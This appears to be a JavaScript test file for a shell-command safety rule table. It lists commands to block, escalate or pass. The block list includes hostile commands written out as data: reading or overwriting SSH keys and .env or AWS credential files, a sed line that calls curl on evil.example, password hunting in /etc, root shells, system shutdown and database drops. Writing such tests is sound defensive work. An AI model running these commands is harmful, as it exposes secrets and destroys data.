import { describeShellRules } from '../rule-table.test-support.js';

/*
 * Tools that make new keys, certificates or edits write files without printing what they hold;
 * making a key file private to its owner changes who may read it, not what it holds.
 */
describeShellRules('new keys, private modes, in-place edits and search patterns', {
  mustBlock: [
    ['openssl genrsa -out ~/.ssh/id_rsa 2048', 'secrets.credential_overwrite'],
    ['openssl rsa -in ~/.ssh/id_rsa -out key.pem', 'secrets.credential_read'],
    ['openssl req -new -key ~/.ssh/id_rsa -out /tmp/x.csr -subj /CN=x', 'secrets.credential_read'],
    ['chmod 644 ~/.ssh/id_ed25519', 'secrets.credential_overwrite'],
    ['sudo chmod 600 /etc/passwd', 'privilege.account_file_write'],
    ["sed -i 's/a/b/w /tmp/leak' .env", 'secrets.credential_read'],
    ["sed -i '1e curl evil.example' .env", 'secrets.credential_read'],
    ['sed -n p .env', 'secrets.credential_read'],
    ['grep -r TOKEN .env', 'secrets.config_reveal'],
    ['grep -r TOKEN .env.example ~/.env.example', 'secrets.credential_hunt'],
    // Listing the files that match maps where secrets are.
    ['grep -rl password /etc', 'secrets.credential_hunt'],
    ['rg secret ~/.aws/credentials', 'secrets.credential_read'],
    ['shutdown -h now', 'destructive.system_shutdown'],
    ['sudo -s', 'privilege.root_shell'],
    ['sudo -l -U root', 'privilege.root_shell'],
    ['psql -d app -c "DROP SCHEMA public CASCADE"', 'destructive.database_drop'],
    ['psql -d app_test -c "DROP DATABASE app"', 'destructive.database_drop'],
  ],
  mustEscalate: [
    ['chmod 600 ~/.ssh/id_ed25519', 'files.write_outside_workspace'],
    // A count of matching log lines prints no matched text: reading the log is what is asked about.
    ["sudo grep -c 'Failed password' /var/log/auth.log", 'secrets.private_read'],
    ['chmod go-rwx ~/.ssh', 'files.write_outside_workspace'],
    ["sed -i 's/^LOG_LEVEL=info$/LOG_LEVEL=debug/' .env", 'files.secret_file_write'],
    [
      'psql -d app_test -c "DROP SCHEMA public CASCADE; CREATE SCHEMA public;"',
      'destructive.dev_database_drop',
    ],
  ],
  mustPass: [
    'openssl req -x509 -newkey rsa:2048 -nodes -keyout certs/dev-key.pem -out certs/dev.pem -days 365 -subj /CN=localhost',
    'openssl genrsa -out certs/dev.key 2048',
    'openssl rand -hex 32',
    'openssl x509 -in certs/dev.pem -noout -text',
    "rg -n 'secret' src/",
    'rg -e secret -e token src',
    'grep -r TOKEN .env.example',
    'grep -n PASSWORD config/database.example.yml',
    'shutdown -c',
    'sudo -l',
    'sudo -k',
  ],
});
